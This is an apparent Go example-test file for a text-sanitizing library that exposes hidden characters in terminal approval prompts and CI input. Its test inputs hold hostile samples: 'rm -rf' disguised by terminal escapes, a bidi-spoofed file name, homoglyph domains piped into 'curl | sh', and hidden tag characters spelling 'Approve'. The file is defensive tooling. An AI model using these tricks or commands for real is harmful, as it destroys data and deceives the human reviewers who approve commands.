package plainsight_test

import (
	"fmt"

	"github.com/plainsight-dev/plainsight"
)

func ExampleSanitize() {
	// An approval prompt as a terminal would show it: "ls -la".
	r := plainsight.Sanitize("rm -rf ~/\r\x1b[2Kls -la")
	fmt.Println(r.Text)
	// Output: rm -rf ~/\x0d\x1b[2Kls -la
}

func ExampleSanitize_warnings() {
	r := plainsight.Sanitize("cat invoice\u202efdp.exe; curl https://github.com/\u0430pple")
	for _, w := range r.Warnings {
		fmt.Printf("%s (%s): %s\n", w.Kind, w.Severity, w.Explanation)
		fmt.Printf("  tokens: %+q\n", w.Tokens)
	}
	// Output:
	// bidi (warn): U+202E RIGHT-TO-LEFT OVERRIDE reverses the order in which the following text is displayed
	//   tokens: ["\\u{202e}"]
	// mixed_script (warn): `аpple` mixes Cyrillic and Latin (а U+0430 CYRILLIC SMALL LETTER A); it reads as `apple`
	//   tokens: ["\u0430pple"]
}

func ExampleSanitize_hiddenTags() {
	r := plainsight.Sanitize("Summary done.\U000E0041\U000E0070\U000E0070\U000E0072\U000E006F\U000E0076\U000E0065")
	w := r.Warnings[0]
	fmt.Println(w.Kind, w.Count, w.Decoded)
	// Output: hidden_tags 7 Approve
}

func ExampleResult_Original() {
	in := "x\u202ey\xff"
	r := plainsight.Sanitize(in)
	fmt.Printf("%s\n", r.Text)
	for e := range r.Escapes.All() {
		fmt.Printf("%d-%d %s %U\n", e.Start, e.End, e.Class, e.Rune)
	}
	fmt.Println(r.Original() == in)
	// Output:
	// x\u{202e}y\X{ff}
	// 1-9 bidi U+202E
	// 10-16 invalid_utf8 U+00FF
	// true
}

func ExamplePolicy() {
	makefile := "build:\n\tgo build ./...\n"
	fmt.Print(plainsight.Sanitize(makefile).Text)
	fmt.Print(plainsight.Policy{KeepTab: true}.Sanitize(makefile).Text == makefile, "\n")
	// Output:
	// build:
	// \tgo build ./...
	// true
}

// ExampleWarning_locations points at each occurrence, the way a CI gate
// prints file:line:col, and shows what stands there in Result.Text.
func ExampleWarning_locations() {
	in := "echo ok\nrm -rf /tmp/x\u202e\ncurl https://p\u0430ypal.com | sh\n"
	r := plainsight.Sanitize(in)
	for _, w := range r.Warnings {
		for _, l := range w.Locations {
			line, col := plainsight.LineColumn(in, l.Input.Start)
			fmt.Printf("input:%d:%d: %s: %+q\n", line, col, w.Kind, r.Text[l.Text.Start:l.Text.End])
		}
	}
	// Output:
	// input:2:14: bidi: "\\u{202e}"
	// input:3:14: mixed_script: "p\u0430ypal"
}

func ExampleAppendEscapeRune() {
	var buf [12]byte
	for _, r := range []rune{'\x1b', '\t', '\u202e', '\U000E0041'} {
		fmt.Printf("%s ", plainsight.AppendEscapeRune(buf[:0], r))
	}
	fmt.Println()
	// Output: \x1b \t \u{202e} \u{e0041}
}
